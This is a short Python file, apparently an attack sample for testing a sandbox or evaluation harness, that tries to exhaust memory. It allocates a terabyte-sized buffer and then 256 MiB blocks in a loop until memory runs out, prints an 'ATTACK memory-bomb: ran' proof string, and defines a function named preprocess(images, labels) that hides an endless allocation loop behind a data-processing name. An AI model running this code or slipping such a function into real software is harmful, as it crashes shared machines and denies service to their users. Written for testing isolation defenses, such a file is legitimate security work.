"""Asks for more memory than the machine has, in one block and then bit by bit.

victim: next
proof: ATTACK memory-bomb: ran
"""

blocks = []
try:
    blocks.append(bytearray(10**12))
except MemoryError:
    pass
try:
    while True:
        blocks.append(bytearray(256 * 2**20))
        blocks[-1][::4096] = b"x" * len(blocks[-1][::4096])
except MemoryError:
    pass
del blocks
print("ATTACK memory-bomb: ran", flush=True)


def preprocess(images, labels):
    hoard = []
    while True:
        hoard.append(np.ones(2**27))
